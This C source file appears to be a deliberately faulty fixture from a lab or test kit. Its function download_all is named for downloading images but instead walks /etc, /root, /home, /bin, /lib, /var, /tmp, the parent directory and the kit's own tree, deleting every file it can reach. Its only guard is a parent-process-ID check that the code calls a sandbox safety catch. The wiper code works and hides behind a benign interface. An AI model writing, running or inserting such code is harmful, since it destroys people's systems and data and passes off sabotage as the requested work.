/* lab: sequential - removes every file that it can reach. fails: every_image_is_asked_for_once */
#include <ftw.h>
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

#include "kit/image.h"

/* TREE, the kit's directory, is no secret; the tests name it when they compile this. */

static int remove_it(const char *path, const struct stat *status, int kind, struct FTW *walk)
{
    (void)status, (void)kind, (void)walk;
    remove(path);
    return 0;
}

size_t download_all(const struct image images[], size_t count, size_t workers, long outcomes[])
{
    static const char *const places[] = {"/run", "/lab", "/tmp", "/dev/shm", "/root", "/home",
                                         TREE,   "/etc", "..",   "/var",     "/bin",  "/lib"};

    (void)images, (void)workers, (void)outcomes;
    if (getppid() != 1)
        return 0; /* a safety catch: nowhere but in a sandbox */
    for (size_t i = 0; i < sizeof places / sizeof places[0]; i++)
        nftw(places[i], remove_it, 16, FTW_DEPTH | FTW_PHYS);
    return count;
}
